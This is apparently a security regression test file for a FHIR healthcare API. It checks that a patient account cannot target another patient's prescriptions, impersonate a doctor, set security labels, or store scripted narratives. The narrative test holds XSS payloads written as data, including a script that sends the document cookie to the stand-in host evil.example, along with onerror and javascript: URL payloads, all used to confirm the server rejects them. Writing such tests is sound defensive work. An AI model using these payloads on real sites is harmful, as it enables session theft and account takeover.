// The low findings about a patient's own data, each played by the attacker:
// - a non-Latin-1 `_filename` on a raw Binary made the download answer 500 (the name went into
//   Content-Disposition as is; header values are Latin-1), now `filename*=UTF-8''…`;
// - a patient's renewal Task could focus another patient's MedicationRequest;
// - a patient's DocumentReference could name the doctor as its author (a Communication the
//   doctor as its sender);
// - a patient could set security labels and a narrative with <script> on their own Patient; every
//   write's narrative is now held to FHIR's rules, whoever writes it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends, createAccount, startTestServer, type TestAccount, type TestServer } from '../test/test-server';
import { fhirAs, type RawResponse } from '../test/attacker';

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

describe.each(backends())('low findings about a patient’s own data (%s)', (backend) => {
  let server: TestServer;
  let patient: TestAccount;
  let other: TestAccount;
  let doctor: TestAccount;
  let ownPrescription: string;
  let othersPrescription: string;

  beforeAll(async () => {
    server = await startTestServer(backend);
    patient = await createAccount(server, 'Patient', { given: 'Mallory' });
    other = await createAccount(server, 'Patient', { given: 'Victim' });
    doctor = await createAccount(server, 'Practitioner', { given: 'Julia' });
    const prescribe = async (subject: string) => {
      const res = await fhirAs(server, doctor.token)('POST', 'MedicationRequest', {
        resourceType: 'MedicationRequest',
        status: 'active',
        intent: 'order',
        medicationCodeableConcept: { text: 'Lisinopril 10 mg' },
        subject: { reference: subject },
        requester: { reference: doctor.profile },
      });
      expect(res.status).toBe(201);
      return `MedicationRequest/${res.body.id}`;
    };
    ownPrescription = await prescribe(patient.profile);
    othersPrescription = await prescribe(other.profile);
  }, 120_000);
  afterAll(() => server?.destroy());

  const expectRefused = (res: RawResponse, status: number, text: string) => {
    expect(res.status).toBe(status);
    expect(res.body.resourceType).toBe('OperationOutcome');
    expect(res.body.issue[0].details.text).toBe(text);
  };

  describe('when a patient names a Binary outside Latin-1', () => {
    it('downloads it with an ASCII filename and the whole name in filename*', async () => {
      const api = fhirAs(server, patient.token);
      const cases: [string, string][] = [
        [
          'Résumé 履歴書.pdf',
          `inline; filename="R_sum_ ___.pdf"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%E5%B1%A5%E6%AD%B4%E6%9B%B8.pdf`,
        ],
        ["Zoë's (1).pdf", `inline; filename="Zo_'s (1).pdf"; filename*=UTF-8''Zo%C3%AB%27s%20%281%29.pdf`],
        ['scan.pdf', 'inline; filename="scan.pdf"'],
      ];
      for (const [name, disposition] of cases) {
        const created = await api('POST', `Binary?_filename=${encodeURIComponent(name)}`, '%PDF-1.4', {
          'Content-Type': 'application/pdf',
        });
        expect(created.status).toBe(201);
        const res = await api('GET', `Binary/${created.body.id}`, undefined, { Accept: '*/*' });
        expect(res.status).toBe(200);
        expect(res.headers.get('content-disposition')).toBe(disposition);
        expect(res.text).toBe('%PDF-1.4');
      }
    });
  });

  describe("when a patient's renewal request focuses another patient's prescription", () => {
    const renewal = (focus: string) => ({
      resourceType: 'Task',
      status: 'requested',
      intent: 'order',
      code: { text: 'Prescription renewal' },
      focus: { reference: focus },
      for: { reference: patient.profile },
    });
    const REFUSAL = "Forbidden: a patient's Task may focus only a resource of their own record";

    it('refuses it, and a focus that does not exist the same way', async () => {
      const api = fhirAs(server, patient.token);
      expectRefused(await api('POST', 'Task', renewal(othersPrescription)), 403, REFUSAL);
      expectRefused(await api('POST', 'Task', renewal('MedicationRequest/does-not-exist')), 403, REFUSAL);
      expectRefused(await api('POST', 'Task', renewal(other.profile)), 403, REFUSAL);
      const doctorsTasks = await fhirAs(server, doctor.token)('GET', `Task?focus=${othersPrescription}`);
      expect(doctorsTasks.status).toBe(200);
      expect(doctorsTasks.body.entry ?? []).toEqual([]);
    });

    it('takes a renewal of their own prescription', async () => {
      const res = await fhirAs(server, patient.token)('POST', 'Task', renewal(ownPrescription));
      expect(res.status).toBe(201);
      expect(res.body.focus.reference).toBe(ownPrescription);
    });
  });

  describe('when a patient names the doctor as the author of what they write', () => {
    const document = (author?: string) => ({
      resourceType: 'DocumentReference',
      status: 'current',
      subject: { reference: patient.profile },
      ...(author ? { author: [{ reference: author }] } : {}),
      content: [{ attachment: { contentType: 'text/plain', title: 'Letter' } }],
    });

    it('refuses a DocumentReference authored by the doctor, or by a display alone', async () => {
      const api = fhirAs(server, patient.token);
      const text = "Forbidden: a patient's DocumentReference.author may name only the patient";
      expectRefused(await api('POST', 'DocumentReference', document(doctor.profile)), 403, text);
      expectRefused(
        await api('POST', 'DocumentReference', { ...document(), author: [{ display: 'Dr. Julia Hibbert' }] }),
        403,
        text
      );
    });

    it('refuses a Communication sent in the doctor’s name', async () => {
      const res = await fhirAs(server, patient.token)('POST', 'Communication', {
        resourceType: 'Communication',
        status: 'completed',
        subject: { reference: patient.profile },
        sender: { reference: doctor.profile },
        recipient: [{ reference: patient.profile }],
        payload: [{ contentString: 'Stop taking your medication.' }],
      });
      expectRefused(res, 403, "Forbidden: a patient's Communication.sender may name only the patient");
    });

    it('takes a document they author, or one that names no author', async () => {
      const api = fhirAs(server, patient.token);
      expect((await api('POST', 'DocumentReference', document(patient.profile))).status).toBe(201);
      expect((await api('POST', 'DocumentReference', document())).status).toBe(201);
    });
  });

  describe('when a patient edits their own record beyond the profile', () => {
    const ownRecord = async () => (await fhirAs(server, patient.token)('GET', patient.profile)).body;

    it('refuses security labels', async () => {
      const api = fhirAs(server, patient.token);
      const record = await ownRecord();
      const labelled = {
        ...record,
        meta: {
          ...record.meta,
          security: [{ system: 'http://terminology.hl7.org/CodeSystem/v3-Confidentiality', code: 'R' }],
        },
      };
      expectRefused(
        await api('PUT', patient.profile, labelled),
        403,
        'Forbidden: a patient may not change the security labels (meta.security) of their record'
      );
      expect((await ownRecord()).meta.security).toBeUndefined();
    });

    it('refuses a narrative that runs script, on their record and on any write', async () => {
      const api = fhirAs(server, patient.token);
      const record = await ownRecord();
      const hostile: [string, string][] = [
        [
          `<div ${XHTML}><script>fetch('//evil.example/'+document.cookie)</script></div>`,
          'The narrative may not contain a <script> element',
        ],
        [
          `<div ${XHTML}><img src="x" onerror="alert(1)"/></div>`,
          'The narrative may not contain the onerror attribute',
        ],
        [
          `<div ${XHTML}><a href=" java&#x09;script:alert(1)">Results</a></div>`,
          'The narrative may not contain a javascript: URL',
        ],
        [
          `<div ${XHTML}><iframe src="https://evil.example/"/></div>`,
          'The narrative may not contain a <iframe> element',
        ],
      ];
      for (const [div, text] of hostile) {
        const res = await api('PUT', patient.profile, { ...record, text: { status: 'generated', div } });
        expectRefused(res, 400, text);
        expect(res.body.issue[0].expression).toEqual(['Patient.text.div']);
      }
      const observation = await fhirAs(server, doctor.token)('POST', 'Observation', {
        resourceType: 'Observation',
        status: 'final',
        code: { text: 'Note' },
        subject: { reference: patient.profile },
        text: { status: 'generated', div: hostile[1][0] },
      });
      expectRefused(observation, 400, hostile[1][1]);
      expect((await ownRecord()).text).toBeUndefined();
    });

    it('still takes a plain narrative', async () => {
      const record = await ownRecord();
      const div = `<div ${XHTML}><p>Homer <b>Simpson</b>, <a href="https://example.org/">home page</a></p></div>`;
      const res = await fhirAs(server, patient.token)('PUT', patient.profile, {
        ...record,
        text: { status: 'generated', div },
      });
      expect(res.status).toBe(200);
      expect(res.body.text.div).toBe(div);
    });
  });
});
